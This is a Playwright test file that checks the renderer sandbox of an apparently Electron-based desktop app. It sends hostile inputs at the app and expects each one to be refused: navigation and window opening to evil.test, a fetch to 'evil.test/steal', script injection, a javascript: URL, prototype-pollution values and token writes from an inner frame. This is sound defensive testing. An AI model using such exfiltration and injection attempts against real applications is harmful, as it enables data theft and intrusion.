import { expect, test } from '../double/app-fixtures.ts';

test('the page cannot reach Node and sees only the exposed functions', async ({
  launch,
  chooseServer,
}) => {
  const app = await launch();
  const setup = await app.page();
  await expect(setup.getByRole('heading')).toBeVisible();
  expect(await setup.evaluate(() => window.desktop)).toBeUndefined();
  const page = await chooseServer(app);
  await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible();
  const seen = await page.evaluate(() => ({
    node: ['require', 'process', 'module', 'exports', 'Buffer', 'global'].filter(
      (name) => name in window,
    ),
    bridge: Object.entries(window.desktop ?? {}).map(([name, value]) => [name, typeof value]),
    isFrozen: Object.isFrozen(window.desktop),
  }));
  expect(seen).toEqual({
    node: [],
    bridge: [
      ['start', 'function'],
      ['keepToken', 'function'],
      ['forgetToken', 'function'],
      ['openExternal', 'function'],
      ['onOpenScreen', 'function'],
      ['readPostReader', 'function'],
      ['openPostReader', 'function'],
      ['clearPostReader', 'function'],
      ['onPostReader', 'function'],
    ],
    isFrozen: true,
  });
});

test('hostile content cannot navigate, open a window or reach another host', async ({
  launch,
  chooseServer,
}) => {
  const app = await launch();
  const page = await chooseServer(app);
  await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible();
  const before = page.url();

  for (const url of [
    'https://evil.test/?next=unlatch://console/',
    'https://setup.unlatch.test/',
    '/api/openapi.json',
    '/console/assets/x.js',
    'https://evil.test/file.exe',
  ]) {
    await page.evaluate((to) => window.location.assign(to), url);
    await page.evaluate((to) => {
      const link = document.createElement('a');
      link.href = to;
      link.target = '_blank';
      document.body.append(link);
      link.click();
      link.remove();
    }, url);
    await page.evaluate((to) => void window.open(to), url);
  }
  await page.evaluate(async () => {
    for (let time = 0; time < 500; time += 1) {
      const frame = document.createElement('iframe');
      frame.src = `https://evil.test/${time}`;
      document.body.append(frame);
      frame.remove();
    }
    await fetch('https://evil.test/steal').catch(() => undefined);
  });
  // A text is neither a script address nor a script; appended, it does nothing.
  const refused = await page.evaluate(() => {
    const fill = (name: 'src' | 'textContent', text: string): boolean => {
      const script = document.createElement('script');
      document.body.append(script);
      try {
        script[name] = text;
        return false;
      } catch (error) {
        return error instanceof TypeError;
      }
    };
    return [
      fill('src', 'https://evil.test/x.js'),
      fill('textContent', 'window.wasInjected = true'),
    ];
  });
  expect(refused).toEqual([true, true]);
  await expect.poll(() => page.context().pages().length).toBe(1);
  expect(page.url()).toBe(before);
  await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible();
  expect(await page.evaluate(() => 'wasInjected' in window)).toBe(false);
  expect(app.did.leaked).toEqual([]);
  expect(app.did.opened).toEqual([]);
  expect([...new Set(app.did.dialogs)]).toEqual(['Open evil.test?']);
});

test('calls with wrong values, or from an inner frame, get a typed refusal', async ({
  launch,
  chooseServer,
  baseURL,
}) => {
  const app = await launch();
  const page = await chooseServer(app);
  await expect(page.getByRole('heading', { name: 'Welcome back' })).toBeVisible();
  const failures = await page.evaluate(async () => {
    const values: unknown[] = [
      undefined,
      null,
      0,
      -1,
      NaN,
      Infinity,
      '',
      ' ',
      'x'.repeat(10_240),
      true,
      [],
      {},
      [[]],
      { url: 1 },
      { name: '__proto__' },
      'auth_session_token',
      'javascript:alert(1)',
      'file:///x',
      'smb://x',
      '\u0000',
      '\uD800',
      { toString: null },
      [1, 2, 3],
      'constructor',
    ];
    const words = new Set<string>();
    const bridge = window.desktop as unknown as Record<string, (...args: unknown[]) => unknown>; // called wrongly on purpose
    for (const name of ['keepToken', 'forgetToken', 'openExternal'] as const) {
      for (const one of values) {
        for (const other of [undefined, 'x', {}]) {
          try {
            await bridge[name]?.(one, other);
          } catch (error) {
            words.add(error instanceof Error ? error.message : String(error));
          }
        }
      }
    }
    return [...words];
  });
  expect(failures).toEqual(['invalid']);

  // Calls the channels directly, without the preload, from a frame inside the page.
  const fromFrame = await page.evaluate(async () => {
    const frame = document.createElement('iframe');
    const loaded = new Promise((done) => frame.addEventListener('load', done));
    document.body.append(frame);
    await loaded;
    type Raw = { invokeMain?(channel: string, args: unknown[]): Promise<unknown> };
    const inside = frame.contentWindow as unknown as Raw; // the double's raw channel
    return Promise.all([
      inside.invokeMain?.('unlatch:start', []),
      inside.invokeMain?.('unlatch:keepToken', [{ name: 'adminToken', token: 'x' }]),
      inside.invokeMain?.('unlatch:chooseServer', [{ address: 'https://evil.test' }]),
    ]);
  });
  expect(fromFrame).toEqual(Array.from({ length: 3 }, () => ({ ok: false, failure: 'refused' })));

  const fromConsole = await page.evaluate(() => {
    type Raw = { invokeMain(channel: string, args: unknown[]): Promise<unknown> };
    const raw = window as unknown as Raw; // the double's raw channel
    return raw.invokeMain('unlatch:chooseServer', [{ address: 'https://evil.test' }]);
  });
  expect(fromConsole).toEqual({ ok: false, failure: 'refused' });
  const start = await page.evaluate(() => window.desktop?.start());
  expect(start).toMatchObject({ serverOrigin: baseURL, tokens: {} });
});
